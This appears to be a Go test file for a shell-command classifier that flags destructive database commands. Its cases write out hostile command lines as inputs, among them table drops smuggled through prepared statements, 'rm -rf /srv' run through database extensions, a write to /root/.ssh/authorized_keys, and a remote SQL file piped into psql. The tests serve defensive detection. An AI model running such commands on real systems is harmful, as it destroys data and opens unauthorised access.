package shell

import "testing"

func TestSQLThatRunsTexts(t *testing.T) {
	sayEach(t, []saying{
		{`psql --com 'drop table users'`, `drop table users`},
		{`mysql -e "set @a='drop table users'; prepare s from @a; execute s"`, `drop table users`},
		{`mysql -e "set @q = concat('drop ', 'table users'); prepare s from @q; execute s"`, `drop table users`},
		{`mysql -e "set @a='drop table users'; select @a"`, ``},
		{`mysql -e "set @a='select 1'; prepare s from @a; execute s"`, ``},
		{`sqlcmd -Q "declare @s nvarchar(max) = 'drop table users'; exec(@s)"`, `drop table users`},
		{`sqlcmd -Q "exec sp_msforeachtable 'drop table ?'"`, `drop table ?`},
		{`psql -v t=users -c 'drop table :t'`, `drop table :t`},
		{`psql -c "select 'drop table users' \gexec"`, `drop table users`},
		{`psql -c "select 'drop table users'"`, ``},
		{`psql -c "prepare x as delete from users; execute x"`, `drop rows of users wide`},
		{`psql -c "prepare x as delete from users where id = 1; execute x"`, ``},
		{`psql -c "merge into u using s on true when matched then delete"`, `drop rows of u wide`},
		{`psql -c "merge into u using s on u.id = u.id when matched then delete"`, `drop rows of u wide`},
		{`psql -c "merge into u using s on u.id = s.id when matched then delete"`, ``},
		{`psql -c "do language plpython3u 'import os; os.system(\"rm -rf /srv\")'"`, `delete /srv wide`},
		{`psql -c "create function f() returns void as 'rm -rf /srv' language plsh"`, `delete /srv wide`},
		{`psql -c "create function f() returns int as 'select 1' language sql"`, ``},
		{`psql -c "alter system set archive_command = 'rm -rf /srv'"`, `delete /srv wide`},
		{`mysql -e 'select 1 into outfile "/root/.ssh/authorized_keys"'`, `write /root/.ssh/authorized_keys`},
		{`psql -f <(echo 'drop table users')`, `drop table users`},
		{`psql -f /dev/stdin <<< 'drop table users'`, `drop table users`},
		{`curl -s https://e.x/a.sql | psql prod`, `fetch https://e.x/a.sql; run-remote https://e.x/a.sql`},
		{`psql -f https://e.x/a.sql`, `run-remote https://e.x/a.sql`},
	})
}

func TestSQLOfOtherClients(t *testing.T) {
	sayEach(t, []saying{
		{`mysqlsh --sql -e 'drop schema prod'`, `drop schema prod wide`},
		{`mysqlsh --js -e 'session.dropSchema("prod")'`, `drop schema wide`},
		{`mysqlsh --sql -e 'select 1'`, ``},
		{`db2 drop table users`, `drop table users`},
		{`db2 connect to sample`, ``},
		{`surreal sql -q 'REMOVE TABLE users'`, `drop table users wide`},
		{`sqlite-utils drop-table app.db users`, `drop table users`},
		{`aws redshift-data execute-statement --sql 'drop table users' --database d`, `drop table users`},
		{`aws redshift-data batch-execute-statement --sqls 'select 1' 'drop table users'`, `drop table users`},
		{`aws athena start-query-execution --query-string 'SELECT 1'`, ``},
		{`gcloud spanner databases execute-sql d --sql='DROP TABLE users'`, `drop table users`},
		{`az postgres flexible-server execute -n s -q 'drop table users'`, `drop table users`},
		{`hasura metadata clear`, `drop metadata wide`},
		{`hasura metadata apply`, ``},
		{`mongosh --eval 'db.a.aggregate([{$match:{}},{$out:"users"}])'`, `drop collection that is replaced wide`},
		{`mongosh --eval 'db.a.aggregate([{$out:"tmp_users"}])'`, ``},
		{`mongosh --eval 'db.users.updateMany({a:1},{$set:{b:2}})'`, ``},
		{`redis-cli REPLICAOF e.x 6379`, `drop database wide`},
		{`redis-cli REPLICAOF NO ONE`, ``},
	})
}
